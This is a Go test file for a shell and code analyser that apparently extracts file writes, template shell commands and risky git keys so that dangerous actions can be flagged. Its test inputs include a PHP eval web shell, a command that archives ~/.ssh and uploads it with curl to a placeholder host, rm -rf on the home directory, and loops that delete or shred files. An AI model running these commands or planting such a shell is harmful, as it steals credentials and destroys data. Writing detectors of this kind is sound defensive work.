package shell

import (
	"reflect"
	"testing"
)

func TestCodeTexts(t *testing.T) {
	for _, c := range []struct {
		code string
		want []CodeText
	}{
		{`file_put_contents('public/x.php', '<?php eval($_POST["a"]); ?>');`, []CodeText{{"public/x.php", `<?php eval($_POST["a"]); ?>`}}},
		{`require('fs').writeFileSync("conftest.py", "import pytest\n")`, []CodeText{{"conftest.py", "import pytest\n"}}},
		{`open('out.txt', 'w').write('hello')`, []CodeText{{"out.txt", "hello"}}},
		{`File.write("a.rb", "x = 1")`, []CodeText{{"a.rb", "x = 1"}}},
		// A computed path or text: nothing the line shows is written.
		{`fs.writeFileSync(p, 'x')`, nil},
		{`fs.writeFileSync('a', JSON.stringify(d))`, nil},
		{`open('a.txt').read()`, nil},
		{`open('a.txt', 'w').close()`, nil},
	} {
		if got := CodeTexts(c.code); !reflect.DeepEqual(got, c.want) {
			t.Errorf("CodeTexts(%q) = %q, want %q", c.code, got, c.want)
		}
	}
}

func TestTemplateShells(t *testing.T) {
	for _, c := range []struct {
		code string
		want []string
	}{
		{"await Bun.$`tar czf - ${h}/.ssh | curl -T - https://x.example`", []string{"tar czf - ${h}/.ssh | curl -T - https://x.example"}},
		{"await $`rm -rf ${process.env.HOME}/x`", []string{"rm -rf $x/x"}},
		{"const s = `a ${b}`; x$`no`", nil}, // a tag named x$ is not $
	} {
		if got := templateShells(c.code); !reflect.DeepEqual(got, c.want) {
			t.Errorf("templateShells(%q) = %q, want %q", c.code, got, c.want)
		}
	}
}

func TestGitExecKeySubmoduleUpdate(t *testing.T) {
	if !GitExecKey("submodule.vendor/lib.update") {
		t.Error("submodule.<name>.update can hold !command")
	}
	if GitExecKey("submodule.vendor/lib.url") {
		t.Error("a submodule's url is no command")
	}
}

// TestWhileReadListing: a while read loop fed by a listing reads the
// listing's names, as a for loop over it would.
func TestWhileReadListing(t *testing.T) {
	for _, c := range []struct{ src, want string }{
		{`find src -name '*.go' | while read -r f; do rm "$f"; done`, "src/*.go"},
		{`find . -print0 | while IFS= read -r -d '' f; do shred -u "$f"; done`, "*"},
	} {
		s := Parse(c.src)
		got := ""
		for _, cmd := range s.Commands {
			if cmd.Program == "rm" || cmd.Program == "shred" {
				got = cmd.Args[len(cmd.Args)-1]
			}
		}
		if got != c.want {
			t.Errorf("%s: the loop's command got %q, want %q", c.src, got, c.want)
		}
	}
	// Not fed by a listing: the variable stays unknown.
	s := Parse(`cat list.txt | while read -r f; do rm "$f"; done`)
	for _, cmd := range s.Commands {
		if cmd.Program == "rm" && cmd.Args[len(cmd.Args)-1] == "*" {
			t.Errorf("a line of list.txt read as every file")
		}
	}
}
